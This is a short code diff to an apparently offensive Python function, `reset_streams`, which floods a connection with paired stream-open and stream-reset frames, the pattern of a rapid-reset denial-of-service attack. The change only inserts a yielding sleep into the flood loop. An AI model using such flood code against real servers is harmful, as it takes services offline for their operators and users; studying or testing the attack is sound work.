@@ -114,6 +114,7 @@ async def reset_streams(who: Attacker) -> int:
     with contextlib.suppress(TimeoutError, ConnectionError):
         async with asyncio.timeout(8):
             while not writer.is_closing():
+                await asyncio.sleep(0)  # a connection that is gone takes everything at once
                 for _ in range(100):
                     number = 2 * (taken := taken + 1) + 1
                     writer.write(encoder.syn_stream(number, {"streamtype": "x"}) + encoder.rst_stream(number))
